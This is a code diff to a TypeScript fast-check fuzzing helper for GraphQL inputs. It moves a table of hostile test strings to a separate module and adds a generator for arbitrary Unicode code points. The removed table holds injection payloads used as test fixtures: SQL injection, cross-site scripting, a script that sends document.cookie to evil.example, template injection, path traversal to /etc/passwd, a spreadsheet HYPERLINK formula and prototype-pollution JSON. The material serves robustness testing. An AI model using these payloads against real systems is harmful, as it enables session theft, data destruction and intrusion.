@@ -1,37 +1,16 @@
 import fc, { type Arbitrary } from 'fast-check';
 import { type GraphQLInputType, isEnumType, isInputObjectType, isListType, isNonNullType } from 'graphql';
-
-/** Texts that have broken systems before, by what they aim at. */
-export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
-  SQL: `'; drop table one_thing_case; --`,
-  'SQL with a comment': `x'/**/union/**/select/**/*/**/from/**/person--`,
-  'patterns of LIKE': '%_%\\',
-  HTML: '<img src=x onerror=alert(1)>',
-  'a script': '</script><script>fetch("//evil.example/"+document.cookie)</script>',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template for whoever would fill it
-  'a template': '${7*7}{{7*7}}<%= 7*7 %>#{7*7}',
-  'a path': '../../../../etc/passwd',
-  'a formula': '=HYPERLINK("http://evil.example","x")',
-  NUL: 'a\u0000b',
-  'control characters': '\u0001\u0008\u001b[31m\u007f\u0085\r\n',
-  'half a character': 'x\ud83dy',
-  'writing directions': '\u202eabc\u2066\u2069\ufeff\u200b',
-  'combining marks': `z${'\u0301'.repeat(300)}`,
-  'full width': '１２３ＡＢＣ',
-  emoji: '👨‍👩‍👧‍👦🏳️‍🌈',
-  'a long text': '长'.repeat(20_000),
-  JSON: '{"$ne": null, "__proto__": {"admin": true}}',
-  'a name of JavaScript': 'constructor',
-  'another one': '__proto__',
-  'a number': '1e309',
-  nothing: '',
-  blanks: ' \t\u3000\u00a0',
-};
+import { HOSTILE_TEXTS } from './hostile-texts.ts';
 
 const UNUSUAL_NUMBERS = [0, 1, -1, 2 ** 31 - 1, -(2 ** 31)];
 
 const hostileText = fc.constantFrom(...Object.values(HOSTILE_TEXTS));
-const anyText = fc.oneof(hostileText, fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ maxLength: 40 }));
+/** Whatever Unicode has, halves of characters apart; the library's own takes seconds to make a list of them all. */
+const anySign = fc
+  .integer({ min: 0, max: 0x10ffff })
+  .filter((point) => point < 0xd800 || point > 0xdfff)
+  .map((point) => String.fromCodePoint(point));
+const anyText = fc.oneof(hostileText, fc.string({ unit: anySign, maxLength: 40 }), fc.string({ maxLength: 40 }));
 /** `__proto__` as a key cannot be sent by any JSON client of ours and is dropped by `JSON.parse` alone. */
 const anyJson = fc.oneof(
   fc.jsonValue({ maxDepth: 4 }),
